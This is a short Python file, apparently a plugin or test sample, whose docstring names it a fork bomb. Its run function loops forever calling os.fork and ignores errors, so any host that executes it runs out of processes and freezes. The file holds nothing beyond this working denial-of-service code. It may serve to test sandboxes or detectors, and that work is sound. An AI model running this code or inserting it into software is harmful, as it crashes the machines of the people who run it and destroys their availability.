"""A fork bomb: every process forks, without end."""

import os


def run(data, params, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass
